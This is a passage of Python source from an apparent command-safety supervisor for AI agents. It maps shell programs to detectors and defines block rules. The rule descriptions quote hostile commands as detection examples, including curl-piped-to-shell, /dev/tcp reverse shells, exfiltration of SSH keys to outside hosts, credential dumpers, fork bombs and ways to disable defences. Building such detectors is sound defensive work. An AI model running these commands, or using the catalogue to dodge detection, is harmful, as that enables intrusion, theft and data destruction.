    "ufw": Detector.firewall, "setenforce": Detector.firewall, "auditctl": Detector.firewall,
    "spctl": Detector.firewall,
    "csrutil": Detector.firewall, "netsh": Detector.firewall, "set-mppreference": Detector.firewall,
    "iptables": Detector.firewall, "ip6tables": Detector.firewall, "ebtables": Detector.firewall,
    "arptables": Detector.firewall, "iptables-legacy": Detector.firewall, "iptables-nft": Detector.firewall,
    "iptables-restore": Detector.firewall, "nft": Detector.firewall, "firewall-cmd": Detector.firewall,
    "ip": Detector.ip, "ifconfig": Detector.ip, "ifdown": Detector.ip, "nmcli": Detector.ip, "route": Detector.ip,
    "tc": Detector.ip, "rfkill": Detector.ip,
    "history": Detector.history, "unset": Detector.unset, "set": Detector.unset,
    "journalctl": Detector.logs, "wevtutil": Detector.logs, "clear-eventlog": Detector.logs,
    "remove-eventlog": Detector.logs, "limit-eventlog": Detector.logs,
})
for _n in _DISK_TOOLS:
    _BY_NAME[_n] = Detector.disk_tool
for _n in _POWER:
    _BY_NAME[_n] = Detector.power
for _n in _KILLERS:
    _BY_NAME[_n] = Detector.kill


# perl's -i (edit in place), alone or after switches that take no value (-pi, -pi.bak, -i -pe, -lpi)
_PERL_IN_PLACE = re.compile(r"-[aclnpsStTuUwWX0]*i[\w.~*]*$")


def _perl_sed(d: Detector, cmd: Command, a: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
    if any(_PERL_IN_PLACE.match(x) for x in cmd.argv[1:]):
        d.sed(cmd, a, where, add)


_BY_NAME["perl"] = _perl_sed
for _n in ("gpg", "gpg2", "openssl", "age", "ccrypt"):
    _BY_NAME[_n] = Detector.encrypt_found

# PowerShell's writers of a pipeline's output to a file (judged when the file is on another machine's share)
_OUTPUT_WRITERS = frozenset({"export-csv", "epcsv", "out-file", "set-content", "add-content", "ac",
                             "export-clixml", "tee-object", "export-excel", "convertto-html"})
# every program some detector above judges by name (the effect table need not describe these again)
_JUDGED = frozenset({*_BY_NAME, *_DELETERS, *_DB_CLIENTS, *_NET_TOOLS, *_LOLBINS, *_PKG_INSTALL, *_PKG_REMOVE,
                     *_PUBLISH, *_INFRA_DESTROY, *DOWNLOADERS, *NET_SENDERS, *SHELLS, *INTERPRETERS, *_WRAPPERS,
                     *_POWER, *_KILLERS, *_DISK_TOOLS, "drop", "truncate", "delete", "alter", "update", "sudo",
                     "doas", "pkexec", "su", "gsudo", "eval", "source", ".", "iex", "invoke-expression", "ssh",
                     "autossh", "env", "timeout", "gtimeout", "parallel", "runas", "cmd", "script", "deskgate",
                     # carriers of command lines unwrapped by gate/shell.py: what they carry is judged
                     "pee", "setlock", "with-lock-ex", "lckdo"})
# programs whose own output file (redirects) or secret read (reads) is judged even with no redirect
# (and unpackers: the folder they unpack into)
_WRITES_OR_READS = frozenset({*_WRITING_ARCHIVERS_AND_DOWNLOADERS, *_SECRET_READERS, *WRITE_FLAG_PROGRAMS,
                              "unzip", "bsdunzip", "7z", "7za", "7zz"})
# password databases, when no [files] policy is given
_DEFAULT_DUMPS = ['^/(private/)?etc/(g?shadow-?|master\\.passwd)$', '/windows/system32/config/(sam|security)$']


def _python_manage(d: Detector, cmd: Command, a: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
    if len(cmd.words) > 1 and cmd.words[1].endswith("manage.py"):
        d.frameworks(cmd, a, where, add)


for _n in ("python", "python3"):
    _BY_NAME[_n] = _python_manage


Step = Callable[[Detector, Command, ShellAnalysis, str, Callable[[Finding], None], dict[str, str]], None]


def _is_mkfs(name: str) -> bool:
    return name.startswith(("mkfs", "mke2fs", "newfs")) or name == "mkswap"


Check = Callable[[Detector, Command, ShellAnalysis, str, Callable[[Finding], None]], None]


def _command_steps(name: str) -> tuple[Check | None, tuple[Step, ...]]:
    """The per-program checks of `Detector.command` that apply to a program name, in the order it runs them: its
    check by name (`_BY_NAME`, or None), then the steps of the families it belongs to."""
    steps: list[Step] = []
    check = _BY_NAME.get(name)
    if _is_mkfs(name):
        steps.extend(_MKFS_STEPS)
    if name in _DB_CLIENTS or name in ("drop", "truncate", "delete", "alter", "update"):
        steps.append(lambda d, cmd, a, where, add, downloaded: d.sql(cmd, a, where, add))
    if name in _PKG_INSTALL or name in _PKG_REMOVE:
        steps.append(lambda d, cmd, a, where, add, downloaded: d.packages(cmd, where, add))
    if name in _SYSTEM_PACKAGERS:
        steps.append(lambda d, cmd, a, where, add, downloaded: d.essential_removal(cmd, where, add))
    if _PUBLISH.get(name) or name in _INFRA_DESTROY or name in ("docker", "podman", "terraform"):
        # (git is listed with no verbs to publish: for it, as for any name deploys has no verbs or rule for,
        # deploys finds nothing)
        steps.append(lambda d, cmd, a, where, add, downloaded: d.deploys(cmd, where, add))
    if name in _LOLBINS:
        steps.append(lambda d, cmd, a, where, add, downloaded: d.lolbin(cmd, where, add))
    if name in _NET_TOOLS or name in NET_SENDERS or name in PS_WEB_SENDERS or name in MAIL_SENDERS:
        steps.append(lambda d, cmd, a, where, add, downloaded: d.network_tool(cmd, a, where, add))
    if name in _OUTPUT_WRITERS:
        steps.append(lambda d, cmd, a, where, add, downloaded: d.output_to_share(cmd, where, add))
    if name in _SHARE_WRITERS:
        steps.append(lambda d, cmd, a, where, add, downloaded: share_config(cmd, a, where, add))
    if name in COPY.verbs or name in COPY.uploaders or name in COPY.loaders:
        steps.append(lambda d, cmd, a, where, add, downloaded: d.copy_out(cmd, a, where, add))
    if name in SHELLS or name in INTERPRETERS or name in ("eval", "source", ".", "iex", "invoke-expression"):
        steps.append(Detector.executor)
    if name in DOWNLOADERS:
        steps.append(lambda d, cmd, a, where, add, downloaded: d.download(cmd, downloaded))
    if name in ("docker", "podman", "nerdctl"):
        steps.append(lambda d, cmd, a, where, add, downloaded: d.remote_engine(cmd, a, where, add))
    if name in DOWNLOADERS or name in NET_SENDERS:
        steps.append(lambda d, cmd, a, where, add, downloaded: d.cloud_metadata(cmd, where, add))
        steps.append(lambda d, cmd, a, where, add, downloaded: d.secret_sent(cmd, where, add))
    return check, tuple(steps)


_SHARE_WRITERS = frozenset({"tee", "echo", "printf", "cat"})  # what writes a share section into smb.conf
_MKFS_STEPS: tuple[Step, ...] = (lambda d, cmd, a, where, add, downloaded: d.mkfs(cmd, where, add),)
# every name a family of `Detector.command` tests for; any other name is only checked for a mkfs prefix
_COMMAND_STEPS: dict[str, tuple[Check | None, tuple[Step, ...]]] = {n: _command_steps(n) for n in (
    *_BY_NAME, *_DB_CLIENTS, "drop", "truncate", "delete", "alter", "update", *_PKG_INSTALL, *_PKG_REMOVE,
    *_PUBLISH, *_INFRA_DESTROY, *_LOLBINS, *_NET_TOOLS, *NET_SENDERS, *MAIL_SENDERS, *SHELLS, *INTERPRETERS, "eval",
    "source", ".",
    "iex", "invoke-expression", *DOWNLOADERS, *COPY.verbs, *COPY.uploaders, *COPY.loaders,
    *_SHARE_WRITERS, *_OUTPUT_WRITERS)}


# -- the entry points ----------------------------------------------------------------------------


def findings(analysis: ShellAnalysis, compiled: CompiledPolicy) -> tuple[Finding, ...]:
    """Every shell finding for `analysis` under the compiled policy's detector (cached per analysis)."""
    return compiled.shell.run(analysis)


def shell_findings(ctx: Context) -> tuple[Finding, ...]:
    """The findings for this action (shell, or typed into a terminal); once per context."""
    facts = ctx.derived(command_facts)
    if facts is None:
        return ()
    return ctx.compiled.shell.run(facts)


def _located(source: str, needle: str, field: str) -> Iterator[Span]:
    """Every place `needle` (a finding's span, a substring of the command) occurs in `source`."""
    pos = source.find(needle) if needle else -1
    while pos >= 0:
        yield Span(field, pos, pos + len(needle))
        pos = source.find(needle, pos + len(needle))


def _grouped(found: tuple[Finding, ...], source: str, field: str) -> dict[str, Verdict]:
    """rule id → (reason, risk, spans): the reason and risk of its riskiest finding, counting the others, and
    where in `source` (the judged `field` of the action) every one of its findings is."""
    if not found:
        return _NOTHING  # (shared, never changed: callers only read verdicts)
    if len(found) == 1:  # (one finding, the most common case after none: its rule, reason, risk and spans)
        top = found[0]
        return {top.rule: (top.reason, top.risk, tuple(_located(source, top.span, field)))}
    by_rule: dict[str, list[Finding]] = {}
    for f in found:
        group = by_rule.get(f.rule)
        if group is None:
            by_rule[f.rule] = [f]
        else:
            group.append(f)
    out = {}
    for rule_id, group in by_rule.items():
        if len(group) == 1:  # most rules: one finding, its own spans (distinct offsets of one needle)
            top = group[0]
            out[rule_id] = (top.reason, top.risk, tuple(_located(source, top.span, field)))
            continue
        top = max(group, key=lambda f: f.risk)
        more = len(group) - 1
        spans = tuple(dict.fromkeys(s for f in group for s in _located(source, f.span, field)))
        out[rule_id] = (top.reason + f" (and {more} more)", top.risk, spans)
    return out


_NOTHING: dict[str, Verdict] = {}


def shell_verdicts(ctx: Context) -> dict[str, Verdict]:
    """Findings grouped by rule, once per context: each rule's check is then one dict lookup. Spans point
    into the action's `command` (or shell-quoted `argv`), or into the `text` typed into a terminal."""
    if ctx.type == "shell":  # what command_facts gives a shell action, without its step
        facts = ctx.derived(shell_facts)
        field = "command" if ctx.action.command is not None else "argv"  # type: ignore[union-attr]
    else:
        facts = ctx.derived(command_facts)
        if facts is None:
            return _NOTHING
        field = "text"  # typed into a terminal
    return ctx.compiled.shell.grouped(facts, field)


def _pick(rule_id: str) -> Callable[[Context], Verdict | None]:
    def check(ctx: Context) -> Verdict | None:
        return ctx.derived(shell_verdicts).get(rule_id)

    return check


def _make(rule_id: str, title: str, risk: Risk, doc: str, types: tuple[str, ...] = SHELL_TYPES,
          confidence: float = 0.95) -> Rule:
    check = _pick(rule_id)
    check.__doc__ = doc
    check.__name__ = rule_id.replace(".", "_").replace("-", "_")
    return Rule(rule_id, title, risk, check, frozenset(types), (), confidence, shell_verdicts)


RULES: tuple[Rule, ...] = (
    _make("block.shell.recursive-delete-root", "delete of /, home or a system directory", Risk.CRITICAL,
          "Deleting the root, a home directory, a protected path (`[shell] protected_paths`) or everything in "
          "one, or anything inside the operating system (`system_trees`): rm, rmdir, shred, find -delete. Also "
          "find -delete from the root or a system tree (from a home, when nothing filters what it deletes) and "
          "everything in a personal folder (rm -rf ~/Documents/*, shred of a glob in ~/Pictures; on Windows "
          "del /s or rd /s of C:\\Users\\NAME\\Documents or %USERPROFILE%\\Desktop)."),
    _make("block.shell.disk-destruction", "disk destruction", Risk.CRITICAL,
          "Formatting, partitioning, wiping or writing raw data to a disk device (mkfs, dd of=/dev/sda, "
          "wipefs -a, fdisk, shred /dev/..., > /dev/sda)."),
    _make("block.shell.fork-bomb", "fork bomb", Risk.CRITICAL,
          "A function or program that starts copies of itself without end (`:(){ :|:& };:`, a script running "
          "`$0 & $0`, interpreter code that forks in a loop: os.fork, pcntl_fork, Ruby's loop { fork })."),
    _make("block.shell.remote-code-exec", "remote code piped into a shell", Risk.CRITICAL,
          "Code downloaded and executed unseen: curl|sh, bash <(curl ...), eval \"$(curl ...)\", interpreter "
          "code that fetches and execs, mshta/regsvr32 with a URL; a download saved into a folder programs run "
          "from (system bin folders, LaunchAgents, AppData Roaming, ProgramData, Startup) from a host that "
          "publishes no releases, or fetched from a bare address or over plain HTTP and made executable by chmod "
          "on the same line; a shell command handed to a web shell in a request parameter (?cmd=id). Also a "
          "program unpacked from an archive downloaded on the same line (unzip -d, tar -C, 7z -o, Expand-Archive, "
          "or curl piped into tar) and run; and a download run or reverse shell written by the shell (here-doc, "
          "echo/printf redirect, tee) into code an ordinary tool run executes (conftest.py, setup.py, a .pth file, "
          "a bundler's or linter's config, a Gemfile) or into a Makefile's or justfile's recipes."),
    _make("block.shell.reverse-shell", "reverse shell", Risk.CRITICAL,
          "A shell wired to a network connection: bash -i >& /dev/tcp/..., nc -e, socat exec:, a shell piped "
          "through nc, interpreter socket + shell code, telnet or openssl piped into a shell, zsh ztcp, socket -p sh; "
          "a program from a temporary folder or a removable drive given an address and a port to call back to. "
          "Also a shell wired to the network inside a program's arguments (a pager, a launcher option, a line "
          "inserted into a boot script) or in a variable's value (an exported function, a prompt hook), and a "
          "shell reading its commands from a /dev/tcp descriptor."),
    _make("block.shell.credential-exfiltration", "credential exfiltration", Risk.CRITICAL,
          "A secret (`[shell] secret_paths`, the environment, the keychain) sent over the network: curl -d "
          "@~/.ssh/id_rsa, nc host < .env, cat secret | curl, scp of a key to a remote host, `put` of one in an "
          "sftp/ftp session; a secret read through a vault, cloud or cluster CLI piped to a bare address or drop "
          "site; a secret-named variable ($GITHUB_TOKEN, $DB_PASSWORD) sent to a bare address or drop site (in a "
          "request body, URL or header it asks elsewhere; as the request's own credentials it passes). Also a "
          "secret from a store (vault, sops, a cloud secret manager) sent as a request's content to a host that is "
          "neither internal nor the issuer, a provider CLI's token (gh auth token) sent to any host but its "
          "issuer's (a cloud identity token in a header asks), and a secret decrypted or read into a file that a "
          "later command sends."),
    _make("block.shell.database-destruction", "database destruction", Risk.CRITICAL,
          "DROP DATABASE/SCHEMA/TABLE, TRUNCATE, DELETE FROM without WHERE, FLUSHALL, dropDatabase(), dropdb, "
          "given to a database client (-c/-e/--eval, here-doc) or typed as a command; a database server's data "
          "directory deleted (rm -rf /var/lib/postgresql/...). Also a DELETE whose WHERE always holds (WHERE 1, "
          "1=1, true), ClickHouse's ALTER TABLE ... DELETE WHERE 1, InfluxQL's DROP MEASUREMENT, and the same "
          "statements handed to any program as an argument that is one (a serverless or analytic database's CLI, "
          "`wrangler d1 execute --command`, a database's HTTP interface) or written to a script run on the line."),
    _make("block.shell.database-runs-program", "SQL that runs a program on the database server", Risk.CRITICAL,
          "A statement given to a database client that makes the server run a command or load native code: "
          "COPY ... FROM/TO PROGRAM, xp_cmdshell, sp_OACreate, sp_execute_external_script, sys_exec, a function "
          "in an untrusted language (plpython3u, plperlu, C) or from a shared library (SONAME), load_extension, "
          "an UNSAFE assembly, a scheduler job of type EXECUTABLE. The database's account gets a shell."),
    _make("confirm.shell.database-file-access", "SQL that reads or writes the server's own files", Risk.HIGH,
          "A statement that reads the database machine's files (pg_read_file, LOAD_FILE, lo_import, OPENROWSET "
          "BULK), writes them (INTO OUTFILE/DUMPFILE, lo_export, ATTACH DATABASE as a script file), makes the server "
          "reach out (UTL_HTTP, dblink, xp_dirtree) or sets a command it runs later (archive_command, preload "
          "libraries)."),
    _make("block.shell.anti-forensics", "wiping system logs", Risk.CRITICAL,
          "Truncating, deleting or vacuuming system logs (`[shell] log_paths`, journalctl --vacuum, wevtutil cl); "
          "the shell history both cleared and stopped, or stopped two ways, in one line (history -c; unset "
          "HISTFILE, HISTFILESIZE=0, PSReadLine's -HistorySaveStyle SaveNothing with its saved history removed)."),
    _make("block.shell.insecure-permissions-root", "world-writable or re-owned system tree", Risk.CRITICAL,
          "chmod 777 (or any world-writable mode) on /, home or a system path; chown -R / chgrp -R on one; the same "
          "change run by find -exec or xargs on everything a search of one finds (find /home -exec chown x {} ;); "
          "write access by ACL over one (setfacl -R -m u:x:rwx /home); ownership of a whole drive, Windows or the "
          "users' folders taken (takeown /f C:\\Users /r)."),
    _make("block.shell.credential-tamper", "credential tampering", Risk.CRITICAL,
          "Writing account, sudo or SSH key files (`[shell] credential_files`: /etc/passwd, /etc/shadow, "
          "sudoers, authorized_keys, ld.so.preload), also through a program's output flag (rustc -o "
          "authorized_keys), or granting administrator group membership / uid 0 / root's group or home; the sudoers "
          "file given to another owner; macOS accounts made or passwords reset with a literal password; owner of "
          "a cloud project or cluster-admin granted to a personal mail account, every user or a default service "
          "account. Also a polkit rule that grants every request, and write access by ACL to an account, sudo or "
          "key file given to another user."),
    _make("block.shell.system-file-tamper", "overwriting or moving system files", Risk.CRITICAL,
          "Overwriting, replacing or moving away a file of the operating system (`system_trees`, e.g. "
          "/usr/bin/bash) or a protected path; a logon-screen accessibility program (sethc, utilman, osk, "
          "magnify, narrator, displayswitch, atbroker) taken over by takeown / icacls /grant, renamed away or "
          "replaced by a copy; a Windows system file written by a content cmdlet (Add-Content -Path "
          "C:\\Windows\\System32\\drivers\\etc\\hosts); the resolver list pointed at an unknown outside "
          "server, or a hosts line that sends a sign-in, payment, package or update site to another address."),
    _make("block.shell.policy-pattern", "policy block pattern", Risk.CRITICAL,
          "A simple command matches one of the policy's `[shell] block_patterns`."),
    _make("block.shell.supervisor-tamper", "attacks deskgate itself", Risk.CRITICAL,
          "The agent runs deskgate's control verbs that belong to the person (`deskgate resume`, `unpause`, "
          "`serve`, `run`, `revoke`, `log prune`, any verb not known to be harmless), stops deskgate (pkill, "
          "systemctl stop), or writes, deletes, moves or re-permissions deskgate's config, policy, kill state, "
          "socket or audit files (`[files] supervisor_paths` and the XDG directories)."),
    _make("block.shell.supervisor-read", "reads deskgate's own files", Risk.CRITICAL,
          "The agent prints, copies, archives, searches or opens deskgate's audit database (and its WAL), its "
          "install key, chain head, kill state or policy (`cat`, `sqlite3`, `cp`, `tar`, `base64`, `< file`), "
          "or copies, archives or searches a directory that holds them (`cp -r ~/.local/state`, `tar ~/.config`"
          ", `grep -r x $XDG_STATE_HOME`). Listing or stat-ing them (`ls`, `stat`, `du`) passes."),
    _make("block.shell.exfiltration", "data sent off the machine", Risk.CRITICAL,
          "A whole home directory or a key directory archived or copied to a network sink (tar ~ | ssh, "
          "rsync ~/.ssh host:), DNS lookups or URLs built from command output (nslookup $(whoami).x.example, "
          "curl x.example/?d=$(cat f | base64)), ping -p with command output; an account, secret or records file "
          "(or a file just filled with the environment) uploaded to a public drop site; an account file or a "
          "personal folder piped to a network sink; a data file mailed to a free-mail address; a home, a personal "
          "folder or a key folder packed into an archive that a later command of the line uploads or copies away. "
          "Also the screen, clipboard, camera or microphone captured silently or sent to a bare address or drop "
          "site, people's records exported from a data store and piped to a host outside one's network, and a "
          "file split into parts that are uploaded to a bare address."),
    _make("block.shell.cloud-exfiltration", "copies private data to storage outside the organisation",
          Risk.CRITICAL,
          "An object-store, sync or backup client (aws s3, gsutil, gcloud storage / compute scp, az storage, azcopy, "
          "rclone, s3cmd, s5cmd, mc, restic, borg, kopia, duplicity, rsync, scp), an HTTP upload (curl -T, -F "
          "f=@file), smbclient put, or a Windows copy to another machine's share (robocopy, xcopy, Copy-Item "
          "\\\\host\\share) taking what a business keeps private (a home, a personal or business-records folder "
          "such as finance, HR, payroll or customers, /etc, a whole drive or share, a database dump or one piped "
          "in) to a personal or free file-sharing account (an rclone remote "
          "named mega:, dropbox:, gdrive:), a drop site, a bare public IP address (not one of the own network: "
          "10/8, 172.16/12, 192.168/16, 100.64/10) or a bucket written without "
          "credentials; or a bucket named for production, customers, backups or payroll copied into another "
          "bucket; a whole top folder of a home (~/projects) sent to such an account, drop site or bucket; a database "
          "dump piped or redirected into a database client connected to a bare public address (pg_dump | psql -h "
          "IP, mongorestore --uri mongodb://IP). The "
          "same data copied to other storage asks (`resources/programs.toml` `[cloud_copy]`). A file server's "
          "share (\\\\host\\share, //host/share) as the source of such a copy counts as the organisation's "
          "records leaving."),
    _make("block.shell.public-exposure", "makes data public or opens a drive to everyone", Risk.CRITICAL,
          "A bucket or container made readable or writable by anyone on the internet (aws s3api put-bucket-acl "
          "--acl public-read, a bucket policy allowing Principal \"*\", the public access block removed, gsutil "
          "allUsers grants, gcloud add-iam-policy-binding --member=allUsers, az storage container --public-access), "
          "a key, queue, function or role policy that lets anyone in, a disk snapshot, machine image or database "
          "snapshot made public, a database server opened to every address (firewall 0.0.0.0-255.255.255.255, "
          "authorized network 0.0.0.0/0), a home or system folder served through a public tunnel (tailscale funnel /, "
          "ngrok http file:///home/x); "
          "a whole drive, Windows or the users' folders shared with or writable by everyone (net share C=C:\\ "
          "/grant:everyone,full, New-SmbShare -FullAccess Everyone, icacls D:\\ /grant Everyone:F), or the whole "
          "disk, the homes or /etc shared to guests in smb.conf. A bucket named for a website (www, site, static, "
          "public, assets, cdn, docs) and a Cloud Run or Functions invoker grant ask instead."),
    _make("block.shell.cloud-remote-exec", "plants code or a way back in on cloud machines and accounts",
          Risk.CRITICAL,
          "An instance's boot script replaced (aws ec2 modify-instance-attribute --user-data, gcloud compute "
          "instances add-metadata startup-script=), SSH keys put in project or machine metadata; downloaded, "
          "decoded or reverse-shell code run on cloud machines through the control plane (aws ssm send-command, "
          "az vm run-command, gcloud compute ssh --command); long-lived keys or console passwords made for a cloud "
          "user, a service account or an application (aws iam create-access-key --user-name, create-login-profile, "
          "gcloud iam service-accounts keys create, az ad sp credential reset); administrator rights attached to "
          "a cloud identity (AdministratorAccess, an inline policy allowing every action), owner or access "
          "administrator of a whole subscription, project, folder or organisation (az role assignment create "
          "--role Owner at subscription scope, gcloud projects add-iam-policy-binding --role=roles/owner)."),
    _make("block.shell.credential-read", "prints a private key or credential file", Risk.CRITICAL,
          "A program that prints or encodes a file (cat, head, base64, xxd, ...) over a private key, cloud "
          "credential or password store (`[files] credentials`): the same files a file_read blocks; one copied out "
          "of the home (cp, esentutl /y, Copy-Item to a temporary, shared or project folder), and every credential "
          "file a search finds copied or printed (find -exec cp, a loop of cat); a cloud machine's own keys asked "
          "of its instance metadata service (169.254.169.254 .../security-credentials, metadata.google.internal "
          ".../token; other metadata reads ask as recon). A copy kept in the home or using one (openssl -in, "
          "ssh -i) asks or passes. Also the secret columns of a browser's cookie or password database, the whole "
          "machine searched for passwords, key files found and gathered by one search, and sops' or age's private "
          "key (a `[files] credentials` entry)."),
    _make("block.shell.suid-shell", "setuid shell", Risk.CRITICAL,
          "chmod u+s / 4755 (or install -m 4755, setcap cap_setuid) on a shell or interpreter, or on a copy of "
          "one made in the same command: root for anyone who runs it. Also a root shell itself: an interactive "
          "shell, or a program handed a shell to start, run through sudo/doas; a setuid/setgid mode set as root "
          "or on a file just given to root; root capabilities (cap_setuid, cap_sys_admin) given to any program; "
          "a privileged pod that shares its node and enters it (kubectl run --overrides hostPID + nsenter); "
          "entering the host from a container (nsenter into process 1, chroot /proc/1/root, a privileged "
          "container in the host's process space). Also a setuid program in a temporary or hidden folder, a root "
          "shell in a container given the host's / (docker -v /:/host, a privileged LXD box with source=/)."),
    _make("block.shell.credential-dump", "dumps password hashes", Risk.CRITICAL,
          "Reading a password database (`[files] credential_dumps`: /etc/shadow, SAM) by any program, or "
          "running a credential dumper or password-attack tool (unshadow, mimikatz, secretsdump, nanodump, "
          "Rubeus, kerbrute, reg save HKLM\\SAM), also as a script run through an interpreter (python3 "
          "GetNPUsers.py, ticketer.py, ntlmrelayx.py); a tracer or debugger attached to a login, keyring or "
          "elevation process (strace -p $(pidof sshd), gdb -p gnome-keyring-daemon); a fake password prompt: "
          "an alias or function named like sudo, su, ssh or passwd that reads input without echo, and a startup-file "
          "line that makes such a name run another program (alias sudo=~/.x/sudo) or a function of that name. "
          "Also a browser's keychain storage key or a saved Wi-Fi password asked of the keychain, a process's "
          "memory dumped and searched for secrets, and every secret of a cluster (or a namespace's, decoded) "
          "printed with its values. So is the clipboard read over and over in a loop into a file (what is "
          "copied, passwords among it, collected while the person works)."),
    _make("block.shell.mass-destruction", "destroys infrastructure, backups or every process", Risk.CRITICAL,
          "Deletes past undoing outside the file system: a production, default or system namespace deleted "
          "(kubectl delete namespace prod), infrastructure destroyed without a review of the plan (terraform "
          "destroy -auto-approve), a backup or production bucket emptied, instances terminated or databases "
          "deleted through a cloud CLI (aws; gcloud and az when the resource is named for production: gcloud sql "
          "instances delete orders-prod, az group delete -n shop-prod), every object of a kind deleted in every "
          "namespace (kubectl delete pods "
          "--all -A), every process killed at once (kill -9 -1, killall5); every cloud resource an unfiltered "
          "listing names handed to a delete (aws iam list-users ... | xargs aws iam delete-user), and every VM, "
          "user, mailbox or share a bare Get- lists piped into Remove- (Get-VM | Remove-VM); a whole Borg "
          "repository deleted."),
    _make("block.shell.sysrq", "kernel emergency keys", Risk.CRITICAL,
          "Writing /proc/sysrq-trigger or enabling sysrq: crashes, reboots or kills everything at once."),
    _make("block.shell.malicious-persistence", "persistence that runs a network shell", Risk.CRITICAL,
          "A crontab entry, shell startup file or other persistence path written with a reverse shell or "
          "downloaded code (curl | sh, /dev/tcp, nc -e) in it; a Run key, scheduled task, service or cron job "
          "whose payload sits in a temporary, per-user writable or hidden folder, runs hidden or encoded, or is a "
          "shell running a command line (sc create ... binPath= \"cmd /c ...\"); a udev, systemd, cron or launchd "
          "entry written by echo/printf/tee whose program sits in a temporary or hidden folder; a start-up entry "
          "that fetches from a bare address (a Run value: from any URL); a line written into a script or a "
          "server's code file that starts a program in the background from a web root, temporary or hidden "
          "folder; a page named as a web shell copied into a web root or to another machine. Also a launchd or "
          "systemd job made, enabled or pointed (PlistBuddy, systemctl enable/link) at a program in a temporary, "
          "shared or hidden folder."),
    _make("block.shell.defense-evasion", "switches a defence off", Risk.CRITICAL,
          "Disabling or flushing the firewall (ufw disable, iptables -F, nft flush ruleset, netsh advfirewall "
          "off), SELinux/AppArmor/Gatekeeper/SIP, auditing or a security service (`[shell] security_services`), "
          "Defender (its signatures removed: MpCmdRun -RemoveDefinitions), an endpoint agent unloaded or killed "
          "(sentinelctl unload, mdatp config real-time-protection --value disabled, taskkill /im MsMpEng.exe), Sysmon "
          "uninstalled, ETW sessions of the event log stopped (logman stop EventLog-...), a security filter driver "
          "unloaded (fltmc unload), kernel protections (ASLR), system recovery and backups (vssadmin delete "
          "shadows); a security "
          "or logging service stopped by name (AV agents, pf, DNS filters), journald told to store nothing, registry "
          "values that switch updates, ETW, AMSI or script logging off; a system shell copied under another name "
          "and run, or a script dressed as a picture and run; the event log switched off by its configuration (sc "
          "config eventlog start= disabled, wevtutil sl LOG /e:false); a program run from a file's alternate data "
          "stream (file.txt:x.exe); a certificate from a staging folder or a download made a trusted root "
          "(certutil -addstore Root, Import-Certificate into Cert:\\...\\Root). Also an encoded payload "
          "decoded and run (by a pipe, inside interpreter code, or Invoke-Expression of a command spelled out at "
          "run time), AMSI switched off in-session, endpoint-security agents or their extensions stopped, "
          "Gatekeeper's quarantine mark taken off a file in a temporary or shared folder, and a script under a "
          "hidden name in a temporary folder run."),
    _make("block.shell.option-injection", "plants a file named like a code-running option", Risk.CRITICAL,
          "A file created with a name that is an option making a program run a command "
          "(`--checkpoint-action=exec=...` of tar, `-e sh x` of rsync, `--use-compress-program`, `-TT` of zip, "
          "`--reference=` of chown): in a folder where someone later runs `tar cf backup.tgz *`, the `*` hands the "
          "name over as that option and runs the command with their rights (wildcard injection). Nothing else "
          "names a file that way."),
    _make("block.shell.loader-hook", "loads a library into every program", Risk.CRITICAL,
          "A loader variable (LD_PRELOAD, LD_AUDIT, DYLD_INSERT_LIBRARIES, ...) set in the action's env, as a "
          "`NAME=value cmd` prefix or by export: the named library runs inside every program that starts. Also a "
          "library loaded from a temporary, hidden or bare relative path (ctypes, dlopen, openssl -engine ./x.so, "
          "ssh-keygen -D /tmp/x.dylib), and a kernel module loaded from a temporary or hidden folder (insmod "
          "/tmp/x.ko). Signed Windows setup programs made to run a file from a staging folder (cmstp /s X.inf, "
          "msiexec /q /i, odbcconf REGSVR, installutil, regasm, regsvcs, mavinject, control X.cpl). And a library "
          "copied into a folder outside the project that the same command line then starts a program from (DLL "
          "side-loading: the program loads it in place of its own). Also signed Windows programs run on a "
          "script or library from a public or temporary folder, and a kernel driver service made from one."),
    _make("confirm.shell.env-hook", "environment that makes programs run code", Risk.HIGH,
          "A variable that makes programs run or load code: start-up files (BASH_ENV, ENV, PYTHONSTARTUP), module "
          "or library paths into writable directories (PYTHONPATH=/tmp), option variables that load code "
          "(NODE_OPTIONS=--require, PERL5OPT=-M), command lines (GIT_SSH_COMMAND, PROMPT_COMMAND, LESSOPEN, a "
          "PAGER or EDITOR with shell syntax) and a PATH whose first directory is writable."),
    _make("block.shell.remote-access", "opens the machine to remote control", Risk.CRITICAL,
          "Switching on remote login, remote events, screen sharing, guest or anonymous file sharing, or remote "
          "desktop (systemsetup -setremotelogin on, sysadminctl -smbGuestAccess on, fDenyTSConnections 0); "
          "remote-control tools installed silently or armed for unattended access (AnyDesk --install --silent, "
          "--set-password, TeamViewer assignment, a ScreenConnect installer with /qn); "
          "lateral-movement kits (psexec.py, wmiexec, evil-winrm) and remote execution given a password on the "
          "command line or run as SYSTEM (PsExec -u -p / -s, plink -pw, net use \\\\host\\C$ PASSWORD /user:); "
          "a service, process or task made on another machine (sc \\\\HOST create, wmic /node: process call "
          "create, Invoke-WmiMethod -ComputerName ... Create, schtasks /s HOST /create, at \\\\HOST, "
          "Invoke-Command -ComputerName, PsExec -c); reverse tunnels that put this network on another machine "
          "(ssh -R or -D -N to a bare address, ssh -R of a login port or of an internal address, chisel R:, "
          "ligolo / revsocks agents, gost rtcp)."),
    _make("block.shell.attack-tool", "runs a tool made to break in", Risk.CRITICAL,
          "A tool whose purpose is to find a way into machines: privilege-escalation hunters and exploit suggesters "
          "(linpeas, winPEAS, Seatbelt, PowerUp, pspy), domain attack-path collectors (SharpHound, BloodHound, "
          "PowerView, Snaffler); the spying modules of attack kits (Get-Keystrokes, Get-TimedScreenshot, "
          "Get-MicrophoneAudio); and a port scan of a large part of the internet (0.0.0.0/0, a public /16 or "
          "wider). Tools administrators also audit with (AdFind, PingCastle) and scans of one's own hosts or "
          "private ranges ask (`confirm.shell.recon`, `confirm.shell.network`)."),
    _make("block.shell.phishing-notice", "raises a notice that phishes", Risk.CRITICAL,
          "A desktop notification or message box (terminal-notifier, alerter, osascript display notification or "
          "dialog, notify-send, zenity, kdialog, BurntToast, msg) that links to a lookalike of a brand or to a "
          "bare public address, or says an account lure (a password expiring, a session ended, an identity to "
          "verify) and asks the person to act on it, or warns of a virus with a number to call (a fake security "
          "alert): phishing delivered on the person's own screen. Message boxes raised by a method call "
          "([System.Windows.MessageBox]::Show, WScript.Shell's Popup, MsgBox) are read too. Plain notices (a "
          "build or backup finished) pass."),
    _make("block.shell.untrusted-source", "takes software from a bare address", Risk.CRITICAL,
